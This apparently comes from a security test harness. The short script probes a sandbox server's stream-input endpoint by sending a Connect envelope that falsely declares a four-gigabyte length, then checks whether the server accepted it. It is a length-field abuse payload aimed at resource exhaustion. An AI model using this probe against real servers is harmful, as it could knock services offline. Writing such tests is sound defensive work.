# aim: have the server hold more than it may
# mechanism: a message of a stream that says that it has four gigabytes
# server: body
# plain: naive

def attack():
    answer = ask("POST", "/process.Process/StreamInput", envelope(b"{}", length=0xFFFFFFFF), E2b_Sandbox_Id=mine.sandbox, Content_Type="application/connect+json")
    return answer.is_good and b'"error"' not in answer.body and "it was taken for a message"


judge(attack)
